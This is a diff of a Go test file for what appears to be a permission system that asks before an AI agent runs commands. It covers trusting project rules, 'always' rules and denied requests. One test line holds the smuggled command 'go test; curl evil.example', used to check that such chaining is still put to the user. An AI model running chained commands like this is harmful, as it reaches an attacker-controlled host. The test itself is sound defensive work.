@@ -46,7 +46,7 @@ func TestRulesAnswerByThemselves(t *testing.T) {
 	// What is more than the rule allows is asked.
 	p.Ask("three")
 	p.Question("Permission", "go test; curl evil.example").Answer("No")
-	p.Shows("Answer c: no.", "you: No").Idle().Leave()
+	p.Shows("Answer c: no.", "you: No")
 	for i, a := range p.Answers("session/request_permission") {
 		if strings.Contains(a, "always") {
 			t.Errorf("answer %d is %s", i, a)
@@ -76,7 +76,7 @@ func TestWhatNoRuleAnswers(t *testing.T) {
 			must(t, os.Symlink("/etc", filepath.Join(p.Project(), "link")))
 			p.Ask("go")
 			p.Question("Permission").Answer("No")
-			p.Shows("Answer a: no.").Idle().Leave()
+			p.Shows("Answer a: no.")
 		})
 	}
 }
@@ -97,26 +97,26 @@ func TestAProjectIsTrustedOnceAndAgainAfterAChange(t *testing.T) {
 	p.Question("This project has rules of its own", "allow execute(go test *)").Answer("Not now")
 	p.Ready().Ask("go")
 	p.Question("Permission", "go test ./...").Answer("No")
-	p.Shows("Answer a: no.").Idle().Leave()
+	p.Shows("Answer a: no.")
 	// It is asked again; enter alone trusts nobody, and one key does not.
 	p = start(dir, nil)
 	p.Question("This project has rules of its own").TakesKeys().Press("enter").Press("1")
 	p.Shows("❯ 1").Press("enter").Gone("This project has rules of its own")
 	p.Shows("the rules of the project count now").Ready().Ask("go")
-	p.Shows("Answer a: yes.", "rule: allow execute(go test *) (.parley/config.toml:2)").Idle().Leave()
+	p.Shows("Answer a: yes.", "rule: allow execute(go test *) (.parley/config.toml:2)")
 	// Nothing is asked while nothing has changed.
 	p = start(dir, nil)
-	p.Ready().Ask("go").Shows("Answer a: yes.").Idle().Leave()
+	p.Ready().Ask("go").Shows("Answer a: yes.")
 	// After a change it is asked again, and nothing counts before.
 	p = start(dir, map[string]string{".parley/config.toml": "[rules]\nallow = [\"execute(go *)\"]\n"})
 	p.Question("This project has rules of its own", "allow execute(go *)").Answer("Never, and do not ask again")
 	p.Shows("the rules of the project never count").Ready().Ask("go")
 	p.Question("Permission", "go test ./...").Answer("No")
-	p.Shows("Answer a: no.").Idle().Leave()
+	p.Shows("Answer a: no.")
 	p = start(dir, map[string]string{".parley/config.toml": "[rules]\nallow = [\"execute(go test ./...)\"]\n"})
 	p.Ready().Ask("go")
 	p.Question("Permission", "go test ./...").Answer("No")
-	p.Shows("Answer a: no.").Idle().Leave()
+	p.Shows("Answer a: no.")
 }
 
 // A project that sets up more than rules is told of, and nothing in it counts.
@@ -128,7 +128,7 @@ func TestAProjectCannotSetUpAgents(t *testing.T) {
 	})
 	p.Shows("The project's own rules do not count", "❯ Ask for something").Ask("go")
 	p.Question("Permission", "go test ./...").Answer("No")
-	p.Shows("Answer a: no.").Idle().Leave()
+	p.Shows("Answer a: no.")
 }
 
 // "Always" is answered with a rule of parley's own, which is seen before it is saved:
@@ -154,7 +154,7 @@ func TestAlwaysAsARule(t *testing.T) {
 	p.Question("Take the rule back", "allow execute(go test *)").Answer("Take it back")
 	p.Shows("taken back: allow execute(go test *)").Ask("three")
 	p.Question("Permission", "go test ./pkg").Answer("No")
-	p.Shows("Answer c: no.").Idle().Leave()
+	p.Shows("Answer c: no.")
 }
 
 // A rule is proposed only where it would answer.
@@ -173,5 +173,4 @@ func TestNoRuleIsProposedWhereNoneMayAnswer(t *testing.T) {
 		}
 		p.Answer("No").Shows("Answer " + string(rune('a'+i)) + ": no.").Idle()
 	}
-	p.Leave()
 }
